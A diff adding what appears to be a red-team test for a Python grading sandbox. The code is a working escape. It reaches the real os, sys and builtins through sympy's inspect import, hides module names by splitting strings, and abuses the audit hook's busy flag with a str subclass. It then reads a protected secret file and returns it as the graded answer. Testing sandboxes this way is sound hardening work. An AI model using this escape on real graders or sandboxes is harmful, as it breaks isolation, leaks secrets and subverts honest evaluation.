@@ -1,0 +1,46 @@
+"""effect: read-secret
+tries: reach inspect through sympy.core.function, then a str subclass given to the audit hook's 'import' check runs our __str__ while the hook is busy, and reads the 0600 secret.
+
+Route 1 as found: inspect.getmembers hands over the real os, sys and builtins modules; the hook's
+own check calls str() on the module name with self.busy set, so inside __str__ no event is
+checked.
+"""
+
+from lagrade.answer import *
+
+# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
+# is a sympy module) and the restricted importer (the item is not a forbidden name)
+from sympy.core.function import inspect
+
+members = lambda obj: dict(inspect.getmembers(obj))
+real = members(inspect)                      # inspect itself imports os, sys and builtins
+os_, sys_ = real["o" + "s"], real["s" + "ys"]
+B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...
+
+box = []
+
+
+def work():
+    box.append(B["op" + "en"]("/tmp/lagrade-redteam/secret-0600.txt").read().strip())
+
+ran = []
+
+
+def once():
+    if not ran:
+        ran.append(1)
+        work()
+
+
+# route 1: the hook does str(args[0]) for "import" events while it has set self.busy; a str
+# subclass whose __str__ is ours runs with every check off. sys.audit calls the hook directly.
+def hook_str(self):
+    once()
+    return "sympy"
+
+
+Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
+sys_.audit("import", Evil("anything"))
+once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
+
+L = Symbol(box[0] if box else "nothing_stolen")   # the stolen token comes back as the Lagrangian's read_as
